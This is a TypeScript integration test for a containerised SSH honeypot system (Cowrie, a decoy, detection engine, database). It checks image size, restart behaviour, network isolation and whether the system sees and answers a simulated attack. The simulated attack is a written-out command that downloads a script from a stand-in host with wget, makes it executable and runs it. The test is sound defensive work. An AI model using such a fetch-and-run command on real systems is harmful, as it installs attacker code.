import { buildImage, image } from './build-image.ts';
import type { Composed } from './compose.ts';
import { composeHere } from './compose-here.ts';
import { ensureBases } from './container-bases.ts';
import { attack, freePort, run, timed, until, untilHealthy, untilOnApi } from './support.ts';

const imageMegabytesMax = 350;

/**
 * Claim: the image builds, is at most 350 MB, and the composed system sees, assesses and answers a real attack, with Cowrie
 * shut off from the rest. Needs root, podman and python3-yaml (`apt-get install podman buildah python3-yaml debootstrap openssh-client`).
 */
export async function proveContainers(): Promise<object> {
  const bases = ensureBases();
  const [buildSeconds] = await timed(() => buildImage(bases));
  const imageMegabytes = megabytesOf(image);
  const [page, ssh, decoy] = [await freePort(), await freePort(), await freePort()];
  const { composed, remove } = await composeHere('test', bases, {
    CERBERUS_PAGE: `127.0.0.1:${page}`,
    COWRIE_SSH: `127.0.0.1:${ssh}`,
    DECOY_SSH: `127.0.0.1:${decoy}`,
  });
  try {
    const seen = await visit(composed, `http://127.0.0.1:${page}`, ssh);
    const stopped = await restart(composed, `http://127.0.0.1:${page}`);
    await composed.up('redis');
    await composed.up('decoy');
    const words = await attack({ port: decoy, command: 'id; # decoy alone' });
    return {
      bases: [...bases.values()],
      buildSeconds,
      ...{ imageMegabytes, imageMegabytesMax, ...seen, ...stopped },
      decoyAlone: words.includes('uid=0(root)'),
    };
  } finally {
    remove();
  }
}

async function visit(composed: Composed, url: string, ssh: number): Promise<object> {
  const [readySeconds] = await timed(async () => {
    for (const service of ['database', 'ml', 'engine', 'cowrie']) await composed.up(service);
    await untilHealthy(url);
  });
  const token = await until('the first token', 20, () => /(cm_\S+)/.exec(composed.logsOf('engine'))?.[1]);
  const words = 'cd /tmp; wget http://203.0.113.9/composed.sh; chmod +x composed.sh; ./composed.sh';
  await until('a shell in Cowrie', 60, async () => {
    await attack({ port: ssh, command: words });
    return true;
  });
  const [onApiSeconds] = await timed(() => untilOnApi(url, token, 'composed.sh', 30));
  const adaptation = await until('a verified adaptation', 60, async () => {
    const answer = await fetch(`${url}/api/adaptations`, { headers: { authorization: `Bearer ${token}` } });
    return (await answer.text()).includes('"verified"') ? true : undefined;
  });
  const page = (await (await fetch(url)).text()).includes('<div id="root"');
  return {
    readySeconds,
    onApiSeconds,
    adaptationVerified: adaptation,
    page,
    cowrieReaches: reachableFromCowrie(composed),
  };
}

/** SIGTERM ends it in order; then it is ready again with the database that is there. */
async function restart(composed: Composed, url: string): Promise<object> {
  const engine = composed.nameOf('engine');
  const [stopSeconds] = await timed(() => void run('podman', ['stop', '--time=30', engine]));
  const exitCode = Number(run('podman', ['inspect', '--format={{.State.ExitCode}}', engine]));
  if (exitCode !== 0) throw new Error(`SIGTERM should have ended the engine in order; it ended with ${exitCode}.`);
  const [readyAgainSeconds] = await timed(async () => {
    run('podman', ['start', engine]);
    await untilHealthy(url);
  });
  return { stopSeconds, exitCode, readyAgainSeconds };
}

/** Every address and port of ours that a Cowrie taken over could talk to: none. */
function reachableFromCowrie(composed: Composed): string[] {
  const ports = { database: 5432, ml: 8001, engine: 3000 };
  const targets = Object.entries(ports).flatMap(([service, port]) =>
    addressesOf(composed.nameOf(service)).map((address) => [service, address, port]),
  );
  const script = `
import json, socket, sys
for service, address, port in json.loads(sys.argv[1]):
    try:
        socket.create_connection((address, port), 1.5)
        print(service, address)
    except OSError:
        pass`;
  const python = ['/cowrie/cowrie-env/bin/python3', '-c', script, JSON.stringify(targets)];
  if (targets.length < 5) throw new Error(`Too few addresses to try: ${JSON.stringify(targets)}`);
  return composed.beside('cowrie', python).split('\n').filter(Boolean);
}

function addressesOf(container: string): string[] {
  const format = '{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}';
  return run('podman', ['inspect', `--format=${format}`, container])
    .trim()
    .split(/\s+/);
}

function megabytesOf(name: string): number {
  return Math.round(Number(run('podman', ['image', 'inspect', '--format={{.Size}}', name])) / 1e6);
}
